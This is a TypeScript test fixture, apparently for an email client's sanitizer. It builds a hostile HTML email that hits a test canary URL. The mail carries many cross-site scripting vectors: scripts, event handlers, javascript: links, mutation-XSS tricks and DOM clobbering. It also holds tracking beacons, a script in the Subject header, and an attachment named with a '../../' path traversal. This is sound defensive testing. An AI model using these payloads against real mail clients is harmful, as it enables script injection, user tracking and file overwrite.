/**
 * A mail that tries everything that HTML can do to its reader. Each request to the canary, and each changed title, is a
 * success of the mail.
 */
export function hostileHtml(canary: string): string {
  const act = `(top||self).document.title='owned';new Image().src='${canary}/script'`;
  return `<!doctype html><html><head>
    <meta http-equiv="refresh" content="0;url=${canary}/refresh">
    <meta http-equiv="Content-Security-Policy" content="img-src *">
    <base href="${canary}/base/">
    <link rel="stylesheet" href="${canary}/link.css">
    <link rel="preload" as="image" href="${canary}/preload.png">
    <link rel="dns-prefetch" href="${canary}"><link rel="preconnect" href="${canary}">
    <link rel="prefetch" href="${canary}/prefetch"><link rel="icon" href="${canary}/icon.png">
    <style>
      @import "${canary}/import.css";
      @im\\port url(${canary}/escaped-import.css);
      @font-face { font-family: f; src: url(${canary}/font.woff) }
      body { background: url(${canary}/css.png); font-family: f }
      p { background: u\\72l(${canary}/escaped.png); list-style-image: image-set("${canary}/set.png" 1x) }
      .cover { position: fixed; inset: 0; z-index: 2147483647; background: red; width: 100vw; height: 100vh }
      html, body { position: absolute; top: -9999px; transform: scale(100) }
    </style>
    <script>${act}</script><script src="${canary}/script.js"></script>
    </head>
    <body onload="${act}" background="${canary}/background.png">
    <p id="hello" onclick="${act}" onmouseover="${act}" style="background: url('${canary}/inline.png')">Hello from a stranger</p>
    <div class="cover">cover</div>
    <img src="${canary}/image.png" onload="${act}" alt="A photo" width="40" height="40">
    <img src="${canary}/tiny.gif" width="1" height="1" alt="">
    <img src=x onerror="${act}"><img srcset="${canary}/srcset.png 2x" src="data:image/png;base64,AA">
    <picture><source srcset="${canary}/source.png"><img src="${canary}/picture.png" alt="In a picture"></picture>
    <img src="cid:logo@stranger" alt="The logo">
    <input type="image" src="${canary}/input.png"><video poster="${canary}/poster.png" src="${canary}/video"></video>
    <audio src="${canary}/audio" autoplay></audio><embed src="${canary}/embed"><object data="${canary}/object"></object>
    <iframe src="${canary}/iframe"></iframe><iframe srcdoc="<script>${act}</script>"></iframe>
    <frameset><frame src="${canary}/frame"></frameset>
    <svg onload="${act}"><image href="${canary}/svg.png"/><use href="${canary}/use.svg#a"/><script>${act}</script>
      <a href="javascript:${act}"><text>svg</text></a><animate attributeName="href" values="javascript:1"/></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${act}&quot;&gt;">
      </style></mglyph></table></mtext></math>
    <svg><style>&lt;/style&gt;&lt;img src=x onerror="${act}"&gt;</style></svg>
    <noscript><p title="</noscript><img src=x onerror='${act}'>"></noscript>
    <form id="form" action="${canary}/form" method="get"><input name="password" value="x" autofocus onfocus="${act}">
      <button id="send">Send</button></form><button form="form" formaction="${canary}/formaction">Send too</button>
    <form name="cookie"></form><img name="body"><a id="location" href="${canary}/clobber">clobber</a>
    <a id="js" href="javascript:${act}">script link</a>
    <a id="data" href="data:text/html,<script>${act}</script>">data link</a>
    <a id="tabbed" href="java&#9;script:${act}">tabbed link</a>
    <a id="own" href="/graphql?query=%7Bviewer%7Btenant%7Bname%7D%7D%7D">own link</a>
    <a id="out" href="https://example.com/out" ping="${canary}/ping" target="_top">an honest link</a>
    <map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:${act}"></map>
    <table background="${canary}/table.png"><tr><td background="${canary}/td.png">cell</td></tr></table>
    <marquee onstart="${act}">m</marquee><details ontoggle="${act}" open>d</details>
    <template><img src="${canary}/template.png"></template><plaintext>`;
}

/** A message of it, with the image that it names by its Content-ID, and a file to save. */
export function hostileMail(canary: string, file: Buffer): Buffer {
  return Buffer.from(
    [
      'From: "A Stranger" <stranger@example.org>',
      'To: ann@example.com',
      'Subject: <script>document.title="owned"</script> Hostile & proud',
      'Message-ID: <hostile@example.org>',
      'Date: Mon, 1 Jun 2026 10:00:00 +0000',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=outer',
      '',
      '--outer',
      'Content-Type: multipart/related; boundary=inner',
      '',
      '--inner',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      lines(Buffer.from(hostileHtml(canary))),
      '--inner',
      'Content-Type: image/png; name=logo.png',
      'Content-ID: <logo@stranger>',
      'Content-Disposition: inline; filename=logo.png',
      'Content-Transfer-Encoding: base64',
      '',
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      '--inner--',
      '--outer',
      'Content-Type: text/html; name="../../evil.html"',
      'Content-Disposition: attachment; filename="../../evil.html"',
      'Content-Transfer-Encoding: base64',
      '',
      lines(file),
      '--outer--',
      '',
    ].join('\r\n'),
  );
}

const lines = (bytes: Buffer): string => bytes.toString('base64').replace(/.{76}/g, '$&\r\n');
